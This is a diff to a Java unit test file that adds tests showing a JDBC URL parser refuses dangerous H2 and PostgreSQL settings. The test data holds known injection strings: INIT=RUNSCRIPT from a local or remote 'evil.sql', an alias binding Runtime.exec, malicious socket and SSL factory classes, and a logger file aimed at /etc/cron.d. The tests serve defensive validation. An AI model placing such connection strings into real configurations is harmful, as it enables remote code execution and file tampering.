@@ -58,7 +58,7 @@ class JdbcLocationTest {
     @CsvSource(delimiter = '|', value = {
         "jdbc:h2:mem:x                                 | H2_MEMORY   | jdbc:h2:mem:x;LOCK_TIMEOUT=10000;OPTIMIZE_REUSE_RESULTS=FALSE",
         "jdbc:h2:mem:x;LOCK_TIMEOUT=50;DB_CLOSE_DELAY=0 | H2_MEMORY   | jdbc:h2:mem:x;LOCK_TIMEOUT=50;DB_CLOSE_DELAY=0;OPTIMIZE_REUSE_RESULTS=FALSE",
-        "jdbc:h2:file:/data/s;USER=u;PASSWORD=p;X=1   | H2_EMBEDDED | jdbc:h2:file:/data/s;X=1;LOCK_TIMEOUT=10000;OPTIMIZE_REUSE_RESULTS=FALSE",
+        "jdbc:h2:file:/data/s;USER=u;PASSWORD=p;CACHE_SIZE=8192 | H2_EMBEDDED | jdbc:h2:file:/data/s;CACHE_SIZE=8192;LOCK_TIMEOUT=10000;OPTIMIZE_REUSE_RESULTS=FALSE",
         "jdbc:h2:tcp://127.0.0.1:9092/studies          | H2_SERVER   | jdbc:h2:tcp://127.0.0.1:9092/studies;LOCK_TIMEOUT=10000;OPTIMIZE_REUSE_RESULTS=FALSE",
         "jdbc:h2:mem:x;optimize_reuse_results=TRUE     | H2_MEMORY   | jdbc:h2:mem:x;optimize_reuse_results=TRUE;LOCK_TIMEOUT=10000",
         "jdbc:postgresql://db:5432/hpo                 | POSTGRESQL  | jdbc:postgresql://db:5432/hpo",
@@ -140,5 +140,50 @@ class JdbcLocationTest {
         properties.setProperty("user", user);
         properties.setProperty("password", password);
         return properties;
+    }
+
+    /** Settings that run code, write files, open servers or change the database under Osprey are refused by name. */
+    @ParameterizedTest(name = "{0}")
+    @CsvSource(delimiter = '|', value = {
+        "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM '/tmp/evil.sql'             | INIT",
+        "jdbc:h2:file:/data/s;init=RUNSCRIPT FROM 'http://host/evil.sql' | INIT",
+        "jdbc:h2:tcp://127.0.0.1:9092/s; INIT =CREATE ALIAS X FOR 'java.lang.Runtime.exec' | INIT",
+        "jdbc:h2:file:/data/s;TRACE_LEVEL_FILE=4                       | TRACE_LEVEL_FILE",
+        "jdbc:h2:file:/data/s;FILE_LOCK=SERIALIZED                     | FILE_LOCK",
+        "jdbc:h2:file:/data/s;ACCESS_MODE_DATA=r                       | ACCESS_MODE_DATA",
+        "jdbc:h2:file:/data/s;AUTO_SERVER=TRUE                         | AUTO_SERVER",
+        "jdbc:h2:file:/data/s;MODE=PostgreSQL                          | MODE",
+        "jdbc:h2:file:/data/s;IGNORE_UNKNOWN_SETTINGS=TRUE;INIT=x       | IGNORE_UNKNOWN_SETTINGS",
+        "jdbc:postgresql://db/hpo?socketFactory=org.example.Evil       | socketFactory",
+        "jdbc:postgresql://db/hpo?sslfactory=org.example.Evil&ssl=true | sslfactory",
+        "jdbc:postgresql://db/hpo?loggerFile=/etc/cron.d/x&loggerLevel=DEBUG | loggerFile",
+        "jdbc:postgresql://db/hpo?authenticationPluginClassName=x.Y    | authenticationPluginClassName",
+    })
+    void settingsThatLoadOrRunAnythingAreRefusedByName(String location, String setting) {
+        String withPassword = location + (location.startsWith("jdbc:h2:") ? ";PASSWORD=hunter2" : "&password=hunter2");
+        IllegalArgumentException e = assertThrows(IllegalArgumentException.class,
+                () -> JdbcLocation.parse(withPassword, new Properties(), name -> null));
+        assertTrue(e.getMessage().contains("'" + setting.toUpperCase(java.util.Locale.ROOT) + "'")
+                || e.getMessage().contains("'" + setting + "'"), e.getMessage());
+        assertTrue(e.getMessage().contains("does not accept"), e.getMessage());
+        assertTrue(!e.getMessage().contains("hunter2"), "the password is never shown: " + e.getMessage());
+    }
+
+    @ParameterizedTest(name = "{0}")
+    @CsvSource({"jdbc:h2:zip:/data/s.zip!/s", "jdbc:h2:split:/data/s", "jdbc:h2:nio:/data/s", "jdbc:h2:async:/data/s"})
+    void otherH2FileSystemsAreRefused(String location) {
+        IllegalArgumentException e = assertThrows(IllegalArgumentException.class,
+                () -> JdbcLocation.parse(location, new Properties(), name -> null));
+        assertTrue(e.getMessage().startsWith("unsupported H2 location"), e.getMessage());
+    }
+
+    @Test
+    void theAcceptedSettingsStillPass() {
+        JdbcLocation h2 = JdbcLocation.parse("jdbc:h2:mem:x;DB_CLOSE_DELAY=-1;LOCK_TIMEOUT=5;CACHE_SIZE=1024",
+                new Properties(), name -> null);
+        assertEquals("jdbc:h2:mem:x;DB_CLOSE_DELAY=-1;LOCK_TIMEOUT=5;CACHE_SIZE=1024;OPTIMIZE_REUSE_RESULTS=FALSE", h2.url());
+        JdbcLocation pg = JdbcLocation.parse("jdbc:postgresql://db/hpo?sslmode=require&currentSchema=s&connectTimeout=3",
+                new Properties(), name -> null);
+        assertEquals("jdbc:postgresql://db/hpo?sslmode=require&currentSchema=s&connectTimeout=3", pg.url());
     }
 }
